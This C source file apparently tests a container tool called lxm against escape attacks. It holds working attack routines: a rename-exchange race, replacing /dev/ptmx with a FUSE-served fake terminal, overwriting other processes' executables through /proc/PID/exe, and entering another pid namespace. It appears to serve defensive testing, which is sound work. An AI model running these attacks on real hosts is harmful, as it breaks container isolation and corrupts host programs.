/* Attacks that are races, or that put something in the place of what lxm opens. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "fuse.h"

static const char *why(int failed) { return failed ? strerror(errno) : "ok"; }

/* Two names change places for as long as `go` is there. */
static int swap_main(const char *one, const char *other, const char *go) {
  long swapped = 0;
  while (swapped % 256 || !access(go, F_OK))
    swapped += !syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */) || errno != EINTR;
  return printf("swapped: %ld\n", swapped);
}

/* Says that it is side `number` of a terminal, whose other side is a true one. */
static void answer_ioctl(struct fuse_in_header *h, int number) {
  struct fuse_ioctl_in *in = (void *)(h + 1);
  struct { struct fuse_ioctl_out out; unsigned number; } got = {.number = number};
  int length = in->cmd == TIOCGPTN ? sizeof got : sizeof got.out;
  answer(h->unique, 0, &got, length);
}

static void serve(int number) {
  static char request[1 << 17];
  while (read(fuse, request, sizeof request) > 0 || errno == ENOENT) {
    struct fuse_in_header *h = (void *)request;
    struct fuse_attr attr = {.ino = h->nodeid, .nlink = 1, .blksize = 4096,
                             .mode = h->nodeid == 1 ? 040777 : 0100666};
    struct fuse_attr_out got = {.attr = attr};
    struct fuse_entry_out entry = {.nodeid = 2, .attr = attr};
    entry.attr.ino = 2, entry.attr.mode = 0100666;
    struct fuse_open_out opened = {.fh = 1, .open_flags = FOPEN_DIRECT_IO};
    switch (h->opcode) {
    case FUSE_READ: case FUSE_WRITE: case FUSE_FLUSH: case FUSE_POLL: break; /* never answered */
    case FUSE_FORGET: case FUSE_BATCH_FORGET: case FUSE_RELEASE: break;
    case FUSE_INIT: answer(h->unique, 0, &fuse_init, sizeof fuse_init); break;
    case FUSE_GETATTR: answer(h->unique, 0, &got, sizeof got); break;
    case FUSE_LOOKUP: answer(h->unique, 0, &entry, sizeof entry); break;
    case FUSE_OPEN: answer(h->unique, 0, &opened, sizeof opened); break;
    case FUSE_IOCTL: answer_ioctl(h, number); break;
    default: answer(h->unique, -ENOSYS, "", 0);
    }
  }
}

/* Puts a file that is served by this process in the place of /dev/ptmx. */
static int ptmx_main(void) {
  int number, unlock = 0, terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY);
  if (ioctl(terminal, TIOCSPTLCK, &unlock) || ioctl(terminal, TIOCGPTN, &number)) return printf("no terminal\n");
  mkdir("/tmp/fuse", 0755);
  if (mount_fuse("/tmp/fuse")) return 0;
  unlink("/dev/ptmx");
  int linked = symlink("/tmp/fuse/x", "/dev/ptmx");
  pid_t user = fork();
  if (!user) {
    close(fuse); /* so that it ends with its server alone */
    /* The means: it passes for a terminal with who asks its number, and is none. */
    int mine = open("/dev/ptmx", O_RDWR), asked = -1;
    struct stat is;
    int told = ioctl(mine, TIOCGPTN, &asked), known = fstat(mine, &is);
    printf("means: %s %d %s\n", why(told), asked == number, known || S_ISCHR(is.st_mode) ? "terminal" : "file");
    printf("placed: %s\n", why(linked));
    fflush(stdout);
    for (;;) pause();
  }
  serve(number);
  return 0;
}

/* Holds the program of each process that comes, and writes to it once that has ended. */
static int exe_main(const char *go) {
  int held[64], count = 0, refused = 0, changed = 0;
  pid_t seen[64];
  while (!access(go, F_OK) && count < 64) {
    DIR *processes = opendir("/proc");
    for (struct dirent *e; (e = readdir(processes)) && count < 64;) {
      char path[64], program[256] = {0}, mine[256] = {0};
      pid_t pid = atoi(e->d_name);
      int known = pid <= 1;
      for (int i = 0; i < count; i++) known |= seen[i] == pid;
      if (known) continue;
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      if (readlink("/proc/self/exe", mine, 255) < 0 || readlink(path, program, 255) < 0) {
        refused += errno == EACCES;
        continue;
      }
      if (!strcmp(mine, program) || strstr(program, "busybox")) continue;
      if ((held[count] = open(path, O_PATH)) < 0) continue;
      printf("holds %s\n", program);
      seen[count++] = pid;
    }
    closedir(processes);
  }
  usleep(300000);
  for (int i = 0; i < count; i++) {
    char path[64], *text = "overwritten";
    snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
    int open_again = open(path, O_WRONLY);
    int wrote = open_again < 0 ? -1 : pwrite(open_again, text, strlen(text), 0);
    printf("write: %s\n", why(wrote < 0));
    changed += wrote > 0;
  }
  return printf("held %d refused %d changed %d\n", count, refused > 0, changed);
}

/* On the host: a child of this program, in the pid namespace of `pid`, for a second. */
static int enter_main(const char *pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%s/ns/pid", pid);
  if (setns(open(path, O_RDONLY), CLONE_NEWPID)) return printf("setns: %s\n", strerror(errno));
  if (!fork()) {
    usleep(400000);
    _exit(0);
  }
  return printf("ended: %s\n", why(wait(NULL) < 0));
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *verb = argc > 1 ? argv[1] : "";
  if (!strcmp(verb, "swap") && argc > 4) return swap_main(argv[2], argv[3], argv[4]) < 0;
  if (!strcmp(verb, "ptmx")) return ptmx_main() < 0;
  if (!strcmp(verb, "exe") && argc > 2) return exe_main(argv[2]) < 0;
  if (!strcmp(verb, "enter") && argc > 2) return enter_main(argv[2]) < 0;
  return 2;
}
